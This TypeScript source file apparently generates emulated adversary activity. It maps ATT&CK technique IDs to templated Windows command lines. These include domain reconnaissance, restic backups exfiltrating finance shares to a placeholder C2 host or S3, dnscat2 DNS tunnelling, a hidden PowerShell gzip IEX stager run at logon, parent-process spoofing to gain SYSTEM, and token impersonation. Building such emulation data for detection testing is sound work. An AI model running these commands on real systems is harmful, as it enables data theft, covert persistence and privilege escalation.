import { v } from "../dsl";
import type { Variant } from "../types";

const GZIP_STAGER =
  "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAK1Xa2/aSBT93l8xqpBsK+AYQ1qI{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"";

/** Extra named-tool variants (see ../extras.ts): recon one-liners, exfiltration tools, token tricks. */
export const extrasH: Readonly<Record<string, readonly Variant[]>> = {
  T1016: [v("nltest-dsgetdc", ["nltest /dsgetdc:{{dns}}", "nltest /dclist:{{dns}}", "ipconfig /all"])],
  T1087: [
    v("srv-record-recon", [
      "nslookup -querytype=ALL -timeout=12 _ldap._tcp.dc._msdcs.{{dns}}",
      "net user /domain",
    ]),
  ],
  T1048: [
    v("restic", [
      "{{tools}}\\restic.exe -r rest:http://{{c2ip}}:8000/ init --password-file {{tools}}\\pw.txt",
      {
        cmd: "{{tools}}\\restic.exe -r rest:http://{{c2ip}}:8000/ --password-file {{tools}}\\pw.txt backup --use-fs-snapshot C:\\Shares\\Finance",
        net: [["{{c2ip}}", 8000]],
      },
    ]),
  ],
  "T1048.002": [
    v("restic-s3", [
      "{{tools}}\\restic.exe -r s3:s3.amazonaws.com/{{rand}}-bk init --password-file {{tools}}\\pw.txt",
      {
        cmd: "{{tools}}\\restic.exe -r s3:s3.amazonaws.com/{{rand}}-bk --password-file {{tools}}\\pw.txt backup C:\\ProgramData\\{{rand}}",
        net: [["s3.amazonaws.com", 443]],
      },
    ]),
  ],
  "T1048.001": [
    v("dnscat2-exfil", [
      {
        cmd: "{{tools}}\\dnscat2.exe --dns server={{c2ip}},domain={{c2}} --secret={{rand2}}",
        dns: ["{{rand2}}.{{c2}}", "{{rand}}{{rand2}}.{{c2}}"],
      },
    ]),
  ],
  // The stager as a Run value leaves it at logon: explorer.exe starts it.
  "T1027.015": [v("gzip-stager", [{ cmd: GZIP_STAGER, parent: "@explorer" }], { shell: "none" })],
  "T1134.004": [
    v(
      "ppid-spoof-system",
      [
        // The child inherits winlogon's SYSTEM token along with the parent.
        { cmd: "{{tools}}\\SelectMyParent.exe cmd.exe {pid:@winlogon}", access: ["@winlogon", "0x1fffff"] },
        { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@winlogon" },
      ],
      { elevated: true },
    ),
  ],
  "T1134.003": [
    v(
      "sharpimpersonation",
      ["{{tools}}\\SharpImpersonation.exe user:{{domain}}\\{{admin}} technique:ImpersonateLoggedOnuser"],
      { elevated: true },
    ),
  ],
};
